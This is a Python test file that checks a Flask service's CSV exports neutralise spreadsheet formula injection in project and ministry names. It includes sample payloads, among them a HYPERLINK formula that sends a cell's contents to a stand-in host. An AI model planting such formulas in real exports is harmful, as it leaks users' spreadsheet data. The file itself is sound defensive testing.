"""CSV exports (API and `panorama export`) never carry a live formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient

from service.app import create_app
from service.bootstrap import bootstrap
from service.cli import main
from service.config import Settings
from tests.e2e.conftest import Http, authorize, make_token

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"y")'
HOSTILE_NAMES = (HYPERLINK, "+1+1", "-12", "@SUM(A1:A9)")
HOSTILE_MINISTRY = "=1+2"


def _hostile_portfolio(http: Http) -> None:
    """Projects whose names and ministry look like formulas, one with a negative variance."""
    registered = http.post("/api/ministries", {"code": HOSTILE_MINISTRY, "name": "=SUM(A1)"})
    assert registered.status_code == 201, registered.get_json()
    for name in HOSTILE_NAMES:
        pid = http.register(
            name=name, ministry_code=HOSTILE_MINISTRY, cost="1000000.00", planned_end="2025-01-01"
        )
        assert http.command(pid, "cost-estimates", {"amount": "1200000.00"}).status_code == 201


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_neutralised_projects(rows: list[dict[str, str]]) -> None:
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    assert {r["ministry_code"] for r in rows} == {"'" + HOSTILE_MINISTRY}
    assert {r["cv_pct"] for r in rows} == {"-20.00"}  # a negative number is not neutralised
    assert {r["cost"] for r in rows} == {"1200000.00"}


def test_api_csv_answers_neutralise_formula_text(http: Http, client: FlaskClient) -> None:
    _hostile_portfolio(http)
    projects = client.get("/api/projects?as_of=2024-06-01&format=csv")
    assert projects.status_code == 200
    _assert_neutralised_projects(_rows(projects.get_data(as_text=True)))
    accepted = client.get("/api/projects?as_of=2024-06-01", headers={"Accept": "text/csv"})
    _assert_neutralised_projects(_rows(accepted.get_data(as_text=True)))

    summary = _rows(client.get("/api/portfolio/summary?as_of=2024-06-01&format=csv").text)
    ministries = [r for r in summary if r["scope"] == "ministry"]
    assert [r["key"] for r in ministries] == ["'" + HOSTILE_MINISTRY]
    assert ministries[0]["projects"] == "4"

    changes = client.get("/api/portfolio/changes?from=2024-01-01&to=2024-06-01&format=csv")
    entered = [r for r in _rows(changes.text) if r["change"] == "entered"]
    assert sorted(r["name"] for r in entered) == sorted("'" + n for n in HOSTILE_NAMES)
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in entered for cell in r.values())


def test_anonymous_downloads_are_neutralised_too(http: Http, app: Flask) -> None:
    _hostile_portfolio(http)
    response = app.test_client().get("/api/projects?as_of=2024-06-01&format=csv")
    assert response.status_code == 200  # PUBLIC_READ, the default
    _assert_neutralised_projects(_rows(response.get_data(as_text=True)))


def test_the_export_command_neutralises_formula_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'panorama.sqlite3'}"
    services = bootstrap(Settings(database_url=url))
    try:
        client = authorize(create_app(services).test_client(), make_token(services))
        _hostile_portfolio(Http(client))
    finally:
        services.close()
    runner = CliRunner()
    env = {"DATABASE_URL": url}
    projects = runner.invoke(main, ["export", "projects"], env=env)
    assert projects.exit_code == 0, projects.output
    _assert_neutralised_projects(_rows(projects.stdout))
    period = ["--from", "2000-01-01", "--to", "2100-01-01"]
    changes = runner.invoke(main, ["export", "changes", *period], env=env)
    assert changes.exit_code == 0, changes.output
    names = [r["name"] for r in _rows(changes.stdout) if r["change"] == "entered"]
    assert sorted(names) == sorted("'" + n for n in HOSTILE_NAMES)
